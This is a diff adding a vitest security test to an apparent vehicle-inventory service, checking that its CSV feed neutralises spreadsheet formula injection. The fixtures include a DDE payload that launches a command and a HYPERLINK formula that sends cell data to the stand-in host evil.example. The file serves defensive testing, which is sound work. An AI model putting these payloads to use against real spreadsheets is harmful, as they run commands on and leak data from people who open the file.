@@ -5,7 +5,9 @@
 import { once } from 'node:events';
 import http, { type IncomingMessage, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { FEED_PATHS } from '@domain/feeds';
 import { REDACTED } from '../logging';
 import { fetchLimited } from '../modules/inventory-feeds/fetch';
 import { purgeSentMail } from '../modules/mail/mailer';
@@ -346,5 +348,24 @@ describe('finding 2: a feed preview shows only CSV or text, and its errors name 
     expect(res.statusCode).toBe(400);
     expect(res.json().message).toBe('Could not read the feed: The feed could not be reached: the connection was refused');
     expect(res.body).not.toContain(port);
+  });
+});
+
+describe('finding 3: spreadsheet formulas from a feed do not reach /feeds/inventory.csv', () => {
+  it('prefixes a cell starting with = + - @ with a single quote, and keeps numbers and signed figures as they are', async () => {
+    const t = await createTestApp();
+    try {
+      await t.createVehicle({ stockNumber: 'F000001', photos: 1, trim: '@SUM(1+1)*cmd|\' /C calc\'!A0', description: '=HYPERLINK("http://evil.example/?d="&A2,"Details")', exteriorColor: '-2+3', interiorColor: '+HYPERLINK("x")' });
+      const res = await t.app.inject({ method: 'GET', url: FEED_PATHS.inventoryCsv });
+      const [row] = parseCsv(res.body, { columns: true }) as Record<string, string>[];
+      expect(row!.trim).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+      expect(row!.description).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Details")`);
+      expect(row!.interior_color).toBe(`'+HYPERLINK("x")`);
+      // Arithmetic of digits alone can name no function or cell: left as it is (domain/csv.ts).
+      expect(row!.exterior_color).toBe('-2+3');
+      expect(row!.stock_number).toBe('F000001');
+    } finally {
+      await t.close();
+    }
   });
 });
